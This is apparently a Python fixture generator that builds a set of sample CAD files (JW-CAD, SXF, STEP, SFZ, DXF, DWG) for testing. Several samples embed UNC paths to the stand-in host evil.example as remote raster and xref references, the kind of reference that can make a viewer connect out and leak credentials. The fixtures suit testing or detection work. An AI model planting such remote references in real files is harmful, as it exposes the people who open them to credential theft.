# SPDX-License-Identifier: GPL-2.0-or-later
from foreign import crowd
from recipes import Member, emit, zip_file

SXF = b"ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('SCADEC level2 feature_mode'),'2;1');\n/*SXF\n#10 = raster_feature('\\\\evil.example\\a.tif')\nSXF*/\n"
emit(crowd(b'JP04-MARK', {
    'jww.dat': b'JwwData.\x58\2\0\0' + b'\\\\evil.example\\a.bmp', 'old.jwc': b'JwcData.' + bytes(40), 'plain.sfc': SXF, 'step.p21': SXF.replace(b'SCADEC', b'AP202 '), 'packed.sfz': zip_file([Member('a.sfc', SXF)]),
    'drawing.dxf': b'  0\r\nSECTION\r\n  2\r\nHEADER\r\n  9\r\n$ACADVER\r\n  1\r\nAC1015\r\n  0\r\nENDSEC\r\n  1\r\n\\\\evil.example\\xref.dwg\r\n',
    'binary.dat': b'AutoCAD Binary DXF\r\n\x1a\0' + bytes(20), 'dwg.dat': b'AC1032\0\0\0\0\0' + bytes(40)}))
